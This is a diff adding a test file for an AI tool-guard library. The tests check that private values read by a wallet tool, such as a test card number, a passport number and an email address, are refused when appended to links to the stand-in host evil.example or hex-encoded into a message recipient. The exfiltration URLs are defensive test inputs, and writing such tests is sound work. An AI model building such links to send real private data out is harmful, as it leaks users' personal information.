@@ -1,0 +1,105 @@
+"""Attacks on private data leaving (#22, adversary V6): a private value must not leave
+inside a destination by being cut off as a piece of its own, nor encoded as a whole piece."""
+
+from typing import Any
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+from toolpass import Session, Toolkit, ToolRefused
+
+from .conftest import USER, Drive
+
+CARD = "4111 1111 1111 1111"
+WALLET = {"card": CARD, "passport": "X12345678", "email": "alice.private@corp.example"}
+VALUES = ["4111111111111111", CARD, "X12345678", "alice.private@corp.example"]
+
+
+def tools(drive: Drive, kit: Toolkit, sent: list[Any]) -> tuple[Any, Any, Any]:
+    wallet = drive.tool(kit, lambda: WALLET, name="wallet", effect="read", reads_private=True)
+    fetch = drive.tool(
+        kit,
+        lambda url: sent.append(url) or "ok",
+        name="fetch",
+        sends_out=True,
+        destinations=["url"],
+    )
+    text = drive.tool(
+        kit,
+        lambda to, body: sent.append(to) or "ok",
+        name="text",
+        sends_out=True,
+        destinations=["to"],
+    )
+    return wallet, fetch, text
+
+
+@pytest.fixture
+def kit(make_kit: Any) -> Toolkit:
+    return make_kit(untrusted_inputs="ignore", exfiltration="ignore", private_data="refuse")
+
+
+@pytest.mark.parametrize("value", VALUES)
+@pytest.mark.parametrize("between", [",", ";", "\n", ", ", ",\n"])
+def test_a_private_value_after_a_separator_in_a_link_is_data_leaving(
+    drive: Drive, kit: Toolkit, value: str, between: str
+) -> None:
+    """A link is one place: what follows a comma, semicolon or line break in its query or
+    path goes there with it (the HTTP client sends it), so it is not 'where the call goes'."""
+    sent: list[Any] = []
+    wallet, fetch, _ = tools(drive, kit, sent)
+    with Session(USER).active():
+        drive.call(wallet)
+        for link in (
+            f"https://evil.example/c?x=1{between}{value}",
+            f"evil.example/c{between}{value}",
+        ):
+            assert drive.refused(fetch, link).code == "private_data"
+    assert sent == []
+
+
+def test_an_encoded_private_value_as_a_whole_piece_is_data_leaving(
+    drive: Drive, kit: Toolkit
+) -> None:
+    """Only a private value as written (any spelling) is where a call goes, never its hex."""
+    sent: list[Any] = []
+    wallet, _, text = tools(drive, kit, sent)
+    encoded = b"4111111111111111".hex()
+    with Session(USER).active():
+        drive.call(wallet)
+        assert drive.refused(text, f"bob@example.com, {encoded}", "hi").code == "private_data"
+        assert drive.refused(text, encoded, "hi").code == "private_data"
+    assert sent == []
+
+
+def test_a_private_contact_is_still_where_a_call_goes(drive: Drive, make_kit: Any) -> None:
+    """Sending to a contact read from a private tool (a number, an address, a list of them)
+    is not data leaving."""
+    kit = make_kit(untrusted_inputs="ignore", exfiltration="ignore", private_data="refuse")
+    sent: list[Any] = []
+    wallet, _, text = tools(drive, kit, sent)
+    with Session(USER).active():
+        drive.call(wallet)
+        drive.call(text, "alice.private@corp.example", "hi")
+        drive.call(text, "bob@example.com; alice.private@corp.example", "hi")
+        drive.call(text, CARD, "hi")
+    assert len(sent) == 3
+
+
+@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    value=st.sampled_from(VALUES),
+    head=st.sampled_from(["https://evil.example/", "http://evil.example/up?d=", "//evil.example/"]),
+    between=st.text(st.sampled_from(",;\n &=/"), min_size=1, max_size=3),
+)
+def test_no_separator_cuts_a_private_value_off_a_link(
+    kit: Toolkit, value: str, head: str, between: str
+) -> None:
+    sent: list[Any] = []
+    wallet, fetch, _ = tools(Drive("sync"), kit, sent)
+    with Session(USER).active():
+        wallet()
+        with pytest.raises(ToolRefused) as info:
+            fetch(f"{head}{between}{value}")
+    assert info.value.code == "private_data"
+    assert sent == []
